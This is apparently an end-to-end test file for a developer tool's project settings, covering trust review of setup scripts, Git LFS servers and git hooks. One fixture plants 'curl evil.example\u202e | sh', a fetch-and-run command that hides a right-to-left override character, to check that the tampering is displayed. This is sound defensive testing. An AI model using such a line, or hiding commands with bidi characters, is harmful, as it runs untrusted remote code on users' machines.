import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { GitHooks, GitLfs, Project, ProjectScripts } from "@skein/contracts";
import { afterAll, beforeAll, expect, test } from "vitest";
import { expectAccessible, expectFits } from "../support/accessible.ts";
import { closeBrowser, keepScreenshot, visit } from "../support/browser.ts";
import { type RealServer, startRealServer } from "../support/real-server.ts";
import { git, newRepository } from "../support/repository.ts";

let server: RealServer;
beforeAll(async () => {
  server = await startRealServer({ keep: true });
});
afterAll(async () => {
  await closeBrowser();
  await server.stop();
});

/** A project whose setup script is trusted, and an attempt in which the file that it runs was changed. */
async function newChangedAttempt() {
  const repository = newRepository("atlas");
  for (const folder of [".skein", "scripts"]) mkdirSync(join(repository, folder));
  writeFileSync(join(repository, ".skein/project.json"), JSON.stringify({ setup: "sh scripts/setup.sh" }));
  writeFileSync(join(repository, "scripts/setup.sh"), "npm ci\n");
  git(repository, "add", "--all");
  git(repository, "commit", "--quiet", "--message", "scripts");
  const project = await server.api.createProject(repository);
  const path = `/api/projects/${project.id}/scripts`;
  const { hash } = await server.api.request<ProjectScripts>("GET", path);
  await server.api.request("POST", `${path}/trust`, { hash });
  const task = await server.api.createTask(project.id, "Build the setup");
  const attempt = await server.api.createAttempt(task.id);
  writeFileSync(join(attempt.directory, "scripts/setup.sh"), "npm ci\ncurl evil.example\u202e | sh\n");
  return { project, attempt, path };
}

test("[X16] what changed in an attempt since it was trusted is shown line by line, and trusted again there", async () => {
  const { project, attempt, path } = await newChangedAttempt();
  const { page, complaints } = await visit(server, { path: `/p/${project.id}` });
  await page.getByRole("button", { name: /atlas/ }).first().click();
  await page.getByRole("menuitem", { name: "Project settings" }).click();
  const changes = page.getByRole("region", { name: "Changed in attempts" });
  await changes.getByText("Attempt 1 of “Build the setup”").waitFor();
  await changes.getByRole("button", { name: "Review" }).click();
  await page.getByText("Showing the worktree of attempt 1 of “Build the setup”.").waitFor();
  const change = page.getByRole("region", { name: "scripts/setup.sh" });
  await change.getByText("+curl evil.example").waitFor();
  // a character that would reorder the line is shown by name
  await change.getByText("U+202E").waitFor();
  await keepScreenshot(page, "trust-changes");
  await expectAccessible(page);
  await page.getByRole("button", { name: "Trust again" }).click();
  await page.getByRole("button", { name: "Revoke" }).waitFor();
  expect((await server.api.request<ProjectScripts>("GET", `${path}?attemptId=${attempt.id}`)).trust).toBe("trusted");
  expect(complaints).toEqual([]);
});

test("[X16] the same in Chinese, on a narrow screen", async () => {
  const { project } = await newChangedAttempt();
  const { page } = await visit(server, { path: "/settings/projects", locale: "zh-CN", viewport: { width: 390, height: 800 } });
  await page.getByRole("button", { name: project.name }).last().click();
  await page.getByText("“Build the setup”的第 1 次尝试").waitFor();
  await page.getByRole("button", { name: "查看" }).click();
  await page.getByRole("button", { name: "重新信任" }).waitFor();
  await expectFits(page);
});

test("[X8] the server of Git LFS is shown and trusted in the project's settings", async () => {
  const repository = newRepository("large");
  writeFileSync(join(repository, ".gitattributes"), "*.bin filter=lfs diff=lfs merge=lfs -text\n");
  git(repository, "add", "--all");
  git(repository, "commit", "--quiet", "--message", "attributes");
  git(repository, "remote", "add", "origin", "https://git.example/large.git");
  const project = await server.api.createProject(repository);
  const { page, complaints } = await visit(server, { path: `/p/${project.id}` });
  await page.getByRole("button", { name: /large/ }).first().click();
  await page.getByRole("menuitem", { name: "Project settings" }).click();
  const section = page.getByRole("region", { name: "Git LFS" });
  await section.getByText("https://git.example/large.git").waitFor();
  await section.getByRole("button", { name: "Trust" }).click();
  await section.getByRole("button", { name: "Revoke" }).waitFor();
  await keepScreenshot(page, "trust-git-lfs");
  await expectAccessible(page);
  const read = async () => (await server.api.request<GitLfs>("GET", `/api/projects/${project.id}/git-lfs`)).trust;
  expect(await read()).toBe("trusted");
  await section.getByRole("button", { name: "Revoke" }).click();
  await section.getByRole("button", { name: "Trust" }).waitFor();
  expect(await read()).toBe("none");
  expect(complaints).toEqual([]);
});

test("[X8, G2] git hooks are shown whole and trusted in the project's settings; auto-commit is switched on there", async () => {
  const repository = newRepository("hooked");
  mkdirSync(join(repository, ".git/hooks"), { recursive: true });
  writeFileSync(join(repository, ".git/hooks/pre-commit"), "#!/bin/sh\necho checking\n", { mode: 0o755 });
  const project = await server.api.createProject(repository);
  const { page, complaints } = await visit(server, { path: `/p/${project.id}` });
  await page
    .getByRole("button", { name: /hooked/ })
    .first()
    .click();
  await page.getByRole("menuitem", { name: "Project settings" }).click();
  const section = page.getByRole("region", { name: "Git hooks of this repository" });
  await section.getByText("echo checking").waitFor();
  await section.getByRole("button", { name: "Trust" }).click();
  await section.getByRole("button", { name: "Revoke" }).waitFor();
  expect((await server.api.request<GitHooks>("GET", `/api/projects/${project.id}/hooks`)).trust).toBe("trusted");
  const autoCommit = page.getByRole("checkbox", { name: "Commit after each execution", exact: true });
  // it is checked once the server has saved it
  await autoCommit.click();
  await expect.poll(() => autoCommit.isChecked()).toBe(true);
  expect((await server.api.request<Project>("GET", `/api/projects/${project.id}`)).autoCommit).toBe(true);
  await keepScreenshot(page, "trust-hooks");
  await expectAccessible(page);
  expect(complaints).toEqual([]);
});
